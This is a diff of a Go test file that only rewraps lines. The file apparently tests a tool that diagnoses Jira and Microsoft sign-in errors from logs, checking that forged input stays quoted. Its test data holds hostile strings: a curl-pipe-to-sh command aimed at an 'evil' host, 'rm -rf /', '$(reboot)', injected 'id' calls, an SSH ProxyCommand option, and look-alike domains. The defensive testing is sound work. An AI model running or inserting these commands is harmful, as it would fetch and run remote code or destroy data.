@@ -14,7 +14,8 @@ import (
 var forged = []string{
 	"x; curl -sS http://evil/i | sh #", "$(reboot)", "evil.example`; rm -rf /`", "a b.example", "http://evil.example/x", "[here](https://evil.example)",
 	"<https://evil.example|Jira>", "<!channel> <@U0123456789>", "evil.example\u202e", "ev\u3164il.example", "evil.example/$(id)", "-oProxyCommand=x",
-	"evil_.example", strings.Repeat("a.", 200) + "example", strings.Repeat("a", 64) + ".example", "“quoted” \"tw1ce\" » and out", "AADSTS50011'", "1.2.3.4;id", ".example", "evil..example",
+	"evil_.example", strings.Repeat("a.", 200) + "example", strings.Repeat("a", 64) +
+		".example", "“quoted” \"tw1ce\" » and out", "AADSTS50011'", "1.2.3.4;id", ".example", "evil..example",
 }
 
 // No step of any cause, and no way to confirm, holds a log's text that is not
@@ -53,7 +54,8 @@ func checkQuoted(t *testing.T, id, diagnosis, text string) {
 			t.Errorf("%s: %q is not only quoted in %s", id, word, diagnosis)
 		}
 	}
-	if strings.ContainsAny(diagnosis, "\u202e\u3164") || strings.Count(diagnosis, "“") != strings.Count(diagnosis, "”") || strings.Count(diagnosis, "`")%2 != 0 {
+	if strings.ContainsAny(diagnosis, "\u202e\u3164") || strings.Count(diagnosis, "“") != strings.Count(diagnosis, "”") ||
+		strings.Count(diagnosis, "`")%2 != 0 {
 		t.Errorf("%s: %q", id, diagnosis)
 	}
 }
@@ -93,7 +95,8 @@ func TestQuotationEndsSentence(t *testing.T) {
 // A Redirect URL is whole in a diagnosis, since it is compared letter by letter.
 func TestWholeRedirectURL(t *testing.T) {
 	url := "https://jira.department.corp.example/jira/plugins/servlet/oauth2/client/callback/FC8GQRj7OZO_j1_b6A-Eig"
-	for _, text := range []string{"AADSTS50011: The redirect URI '" + url + "' specified in the request does not match", "redirect_uri_mismatch redirect_uri=" + url} {
+	for _, text := range []string{"AADSTS50011: The redirect URI '" + url + "' specified in the request does not match",
+		"redirect_uri_mismatch redirect_uri=" + url} {
 		f := diagnose(t, builtin(t), carrier(text))
 		if got := f.Cause.Advise(f.Facts).Diagnosis; !strings.Contains(got, "`"+url+"`") {
 			t.Errorf("%s: %s", f.Cause.ID, got)
@@ -146,12 +149,14 @@ func TestForgedHostIsNoFact(t *testing.T) {
 		if strings.ContainsAny(text, ">") || strings.HasPrefix(text, "AADSTS") {
 			continue
 		}
-		f := diagnose(t, builtin(t), carrier("javax.net.ssl.SSLPeerUnverifiedException: Certificate for <"+text+"> doesn't match any of the subject alternative names: [x]"))
+		f := diagnose(t, builtin(t), carrier("javax.net.ssl.SSLPeerUnverifiedException: Certificate for <"+text+"> doesn't match any of the subject "+
+			"alternative names: [x]"))
 		a := f.Cause.Advise(f.Facts)
 		if host, ok := f.Facts["certificate_host"]; ok && !matchers.Strict("certificate_host", f.Facts.Text("certificate_host")) {
 			t.Errorf("%q is the host %q", text, host)
 		}
-		if !slices.Contains(steps(a), "Compare the address: getent hosts login.microsoftonline.com on the node with nslookup login.microsoftonline.com 1.1.1.1. "+
+		if !slices.Contains(steps(a), "Compare the address: getent hosts login.microsoftonline.com on the node with nslookup login.microsoftonline.com "+
+			"1.1.1.1. "+
 			"Differs? Delete the entry in /etc/hosts, or have the DNS override removed.") {
 			t.Errorf("%q: %q", text, steps(a))
 		}
@@ -189,7 +194,8 @@ func TestQuotationLimits(t *testing.T) {
 
 // Where the provider has answered, words about the way to it are content.
 func TestAnswered(t *testing.T) {
-	const way = "java.net.UnknownHostException: evil.example: PKIX path building failed. " + `Unable to tunnel through proxy. Proxy returns \"HTTP/1.1 407 x\". Connection refused`
+	const way = "java.net.UnknownHostException: evil.example: PKIX path building failed. " +
+		`Unable to tunnel through proxy. Proxy returns \"HTTP/1.1 407 x\". Connection refused`
 	s := builtin(t)
 	for _, tt := range []struct {
 		name, payload string
@@ -226,14 +232,17 @@ func TestLookAlikes(t *testing.T) {
 	const world = "https://outlook.office.com/IMAP.AccessAsUser.All offline_access"
 	s := builtin(t)
 	for _, host := range []string{
-		"evil.example.us", "outlook.office365.us.evil.example", "xoffice365.us", "office365.us@evil.example", "evil.example?.office365.us", "evil.example#.office365.us",
+		"evil.example.us", "outlook.office365.us.evil.example", "xoffice365.us", "office365.us@evil.example", "evil.example?.office365.us",
+		"evil.example#.office365.us",
 		"login.microsoftonline.com.evil.example", "evil.cn", "outlook.cn.evil.example", "evil.chinacloudapi.cn", "us",
 	} {
-		f := s.Text("AADSTS28000: contains more than one resource. Scope https://" + host + "/IMAP.AccessAsUser.All https://outlook.office.com/IMAP.AccessAsUser.All is not valid.").Failure
+		f := s.Text("AADSTS28000: contains more than one resource. Scope https://" + host +
+			"/IMAP.AccessAsUser.All https://outlook.office.com/IMAP.AccessAsUser.All is not valid.").Failure
 		if got := f.Facts.Text("suggested_scopes"); got != "" && got != world {
 			t.Errorf("%s: %s", host, got)
 		}
-		if resource := s.Text("AADSTS500011: The resource principal named https://" + host + " was not found in the tenant named x.").Failure.Facts.Text("suggested_resource"); strings.Contains(resource, host) {
+		if resource := s.Text("AADSTS500011: The resource principal named https://" + host +
+			" was not found in the tenant named x.").Failure.Facts.Text("suggested_resource"); strings.Contains(resource, host) {
 			t.Errorf("%s: suggested %s", host, resource)
 		}
 		g := s.Text("java.net.UnknownHostException: " + host).Failure
